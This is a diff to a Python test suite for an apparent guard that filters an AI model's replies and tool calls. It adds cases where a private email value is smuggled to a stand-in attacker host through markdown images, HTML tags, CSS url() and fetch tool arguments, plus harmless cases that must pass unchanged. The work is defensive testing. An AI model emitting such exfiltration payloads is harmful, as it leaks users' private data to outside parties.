@@ -166,6 +166,16 @@ WAYS = (
     prose("HTML a", f"<a href='{EVIL}[EMAIL_1]'>more</a>"),
     prose("HTML form", f'<form action="{EVIL}"><input name="q" value="[EMAIL_1]"></form>'),
     prose("style", f"<style>p {{ background: url({EVIL}[EMAIL_1]) }}</style>"),
+    prose("brackets within a target", f"![x]({EVIL}(a)[EMAIL_1])"),
+    prose("escaped bracket within a target", rf"![x]({EVIL}\)[EMAIL_1])"),
+    prose("brackets within a bare address", f"See {EVIL}(a)[EMAIL_1]"),
+    prose("quotes within a bare address", f"See {EVIL}'a'[EMAIL_1] and {EVIL}\"[EMAIL_1]"),
+    prose("end of a tag within a bare address", f"See {EVIL}>[EMAIL_1]"),
+    prose("spaces and brackets within a target", f"![x](<{EVIL}a) b [EMAIL_1]>)"),
+    prose("end of a tag within an attribute", f'<img alt="a > b" src="{EVIL}a [EMAIL_1]">'),
+    prose("end of a tag within an address", f'<img src="{EVIL}> [EMAIL_1]">'),
+    prose("style with spaces", f"<style>p {{ background: url('{EVIL} [EMAIL_1]') }}</style>"),
+    prose("host of another script", "See bücher.example/?q=[EMAIL_1] for more."),
     called("tool that is not declared", "fetch", '{"body":"[EMAIL_1]"}', "own_tool"),
     called("tool that is declared", "own_tool", '{"body":"[EMAIL_1]"}', "own_tool"),
     called("address in an argument", "fetch", f'{{"url":"{EVIL}[EMAIL_1]"}}'),
@@ -300,7 +310,7 @@ DOORS = {
 }
 
 
-_SPOKEN = re.compile(r'"(?:content|arguments|delta)": ?"((?:[^"\\\\]|\\\\.)*)"')
+_SPOKEN = re.compile(r'"(?:content|arguments|delta)": ?"((?:[^"\\]|\\.)*)"')
 
 
 def spoken(answer: bytes) -> str:
@@ -628,3 +638,28 @@ def test_the_documented_policies_are_right(tmp_path: Path) -> None:
     rules = re.findall(r"```cedar\n(.*?)```", page, re.DOTALL)
     made = guard(policies_with(tmp_path, {"house.cedar": "\n".join(rules)}))
     assert {"house.injection", "house.injected", "house.code"} <= made.policies.reasons.keys()
+
+
+HARMLESS = (
+    "[a](https://x.example/a_(b)), [EMAIL_1]",
+    "[リンク](https://x.example)は[EMAIL_1]",
+    "<https://x.example>[EMAIL_1]",
+    '{"url":"https://www.x.example","mail":"[EMAIL_1]"}',
+    '<a href="https://www.x.example/">[EMAIL_1]</a>',
+    "<p>it's</p> don't [EMAIL_1]",
+    'mail = "[EMAIL_1]"',
+)
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_what_stands_behind_a_link_that_has_ended_is_put_back(
+    text: str, model: tuple[Obeying, str]
+) -> None:
+    said, url = model
+    said.way, said.streamed = prose("behind", text), False
+    built = built_with(frozenset(), url)
+    try:
+        answer = through_transport(built, said.way, said, url)
+    finally:
+        built.close()
+    assert shown(EMAIL, answer)
